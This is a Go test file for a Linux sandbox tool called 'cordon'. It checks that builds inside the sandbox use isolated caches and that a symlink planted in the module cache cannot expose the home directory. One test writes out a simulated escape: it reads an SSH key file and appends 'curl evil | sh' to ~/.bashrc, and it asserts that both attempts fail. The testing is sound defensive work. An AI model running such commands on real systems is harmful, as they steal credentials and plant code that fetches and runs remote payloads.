//go:build linux

package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestGoBuildInside: in the default profile `go build` works inside, with
// its build cache in the workspace's sandbox cache; the host's own Go
// cache stays untouched, and the host's module cache serves as a
// read-only module proxy.
func TestGoBuildInside(t *testing.T) {
	t.Parallel()
	goBin := requireGo(t)
	e := newEnv(t)
	e.extra = append(e.extra, "PATH="+filepath.Dir(goBin)+":/usr/local/bin:/usr/bin:/bin")
	writeFile(t, filepath.Join(e.ws, "go.mod"), "module example.com/inside\n\ngo 1.22\n")
	writeFile(t, filepath.Join(e.ws, "main.go"), "package main\n\nfunc main() { println(\"built inside\") }\n")
	// The host's build cache, warm (the standard library is there), is
	// read-only inside: a sandbox must not plant or change entries there.
	seedGoCache(t, e)
	hostCache := filepath.Join(e.home, ".cache", "go-build")
	hostBefore := treeState(t, hostCache)
	mkdir(t, filepath.Join(e.home, "go", "pkg", "mod", "cache", "download"))

	r := e.runTimeout(2*time.Minute, nil, "run", "--", "sh", "-c", `go env GOCACHE GOMODCACHE GOPROXY && go build -o app . && ./app`)
	if r.code != 0 {
		t.Fatalf("go build inside: %s", r)
	}
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	if len(lines) < 3 {
		t.Fatalf("unexpected output: %s", r)
	}
	sandboxBase := filepath.Join(e.home, ".cache", "cordon", "sandbox")
	if !strings.HasPrefix(lines[0], sandboxBase+"/") || !strings.HasSuffix(lines[0], "/go-build") {
		t.Errorf("GOCACHE inside = %q, want a go-build directory under %s", lines[0], sandboxBase)
	}
	// On bwrap the sandbox's own module cache is shown at the host's
	// module cache's path, and the host's at /run/cordon/host-modcache.
	if want := filepath.Join(e.home, "go", "pkg", "mod"); lines[1] != want {
		t.Errorf("GOMODCACHE inside = %q, want %s (the sandbox's, at the host's path)", lines[1], want)
	}
	if want := "file:///run/cordon/host-modcache/cache/download,"; !strings.HasPrefix(lines[2], want) {
		t.Errorf("GOPROXY inside = %q, want it to start with %s", lines[2], want)
	}
	if !strings.Contains(r.all(), "built inside") {
		t.Errorf("the built program did not run: %s", r)
	}
	if ents, err := os.ReadDir(lines[0]); err != nil || len(ents) == 0 {
		t.Errorf("the sandbox's build cache %s is empty after a build: %v", lines[0], err)
	}
	if d := diffListing(hostBefore, treeState(t, hostCache)); d != "" {
		t.Errorf("the host's Go cache %s was written:\n%s", hostCache, d)
	}
	// Writing into the host's cache directly is refused; what is written
	// at the module cache's path lands in the sandbox cache.
	if r := e.sh(`echo planted > ` + hostCache + `/x`); r.code == 0 {
		t.Errorf("the host's Go cache is writable inside: %s", r)
	}
	hostMod := filepath.Join(e.home, "go", "pkg", "mod")
	if r := e.sh(`echo mine > ` + hostMod + `/x`); r.code != 0 {
		t.Errorf("the module cache is not writable inside: %s", r)
	}
	if exists(filepath.Join(hostMod, "x")) {
		t.Errorf("a write to the module cache inside reached the host's %s", hostMod)
	}
	// (The module cache bwrap shows there is kept beside the sandbox
	// caches, where no sandbox can replace it.)
	if own, _ := filepath.Glob(filepath.Join(filepath.Dir(sandboxBase), "gomod", "*", "x")); len(own) != 1 {
		t.Errorf("a write to the module cache inside is not in the sandbox's module cache: %q", own)
	}
}

// TestModuleCacheNotReplaceable: a command that replaces the module cache
// in its sandbox cache by a link to the home directory gets nothing from
// it in the next run: the module cache bwrap binds at the host's path is
// kept where no sandbox can reach, so the home's secrets stay denied and
// its files unwritten.
func TestModuleCacheNotReplaceable(t *testing.T) {
	t.Parallel()
	requireGo(t)
	e := newEnv(t)
	mkdir(t, filepath.Join(e.home, "go", "pkg", "mod", "cache", "download"))
	mkdir(t, filepath.Join(e.home, ".cache", "go-build"))
	writeFile(t, filepath.Join(e.home, ".ssh", "id_test"), "SSH-KEY-7d41")
	rc := filepath.Join(e.home, ".bashrc")
	writeFile(t, rc, "# rc\n")
	r := e.sh(`C=$(dirname "$GOCACHE"); rm -rf "$C/go-mod" "$C/gopath" && ln -s "$HOME" "$C/go-mod" && ln -s "$HOME" "$C/gopath" && echo planted`)
	if !strings.Contains(r.stdout, "planted") {
		t.Fatalf("could not plant the links (the test assumes the sandbox cache is writable): %s", r)
	}
	r = e.sh(`cat "$GOMODCACHE/.ssh/id_test"; ls -a "$GOMODCACHE"; echo 'curl evil | sh' >> "$GOMODCACHE/.bashrc"; true`)
	if strings.Contains(r.all(), "SSH-KEY-7d41") || strings.Contains(r.stdout, ".bashrc") {
		t.Errorf("the home directory showed through the module cache: %s", r)
	}
	if b, _ := os.ReadFile(rc); string(b) != "# rc\n" {
		t.Errorf("~/.bashrc was written through the module cache: %q", b)
	}
}
